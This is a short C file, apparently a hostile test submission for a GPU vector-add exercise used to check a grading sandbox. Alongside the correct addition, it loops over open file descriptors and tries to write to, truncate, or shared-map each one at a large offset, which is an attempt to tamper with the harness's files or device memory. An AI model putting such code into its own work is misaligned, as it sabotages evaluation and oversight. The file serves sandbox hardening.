/* hostile: writes device memory through its file */
#include "exercise.h"

#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

cudaError_t vector_add_host(float *c, const float *a, const float *b, size_t n)
{
    for (int fd = 0; fd < 64; fd++) {
        if (fd > 2 &&
            (pwrite(fd, "x", 1, 0) == 1 || ftruncate(fd, 0) == 0 ||
             mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, (off_t)1 << 35) != MAP_FAILED))
            printf("note: descriptor %d\n", fd);
    }
    for (size_t i = 0; i < n; i++) {
        c[i] = a[i] + b[i];
    }
    return cudaSuccess;
}
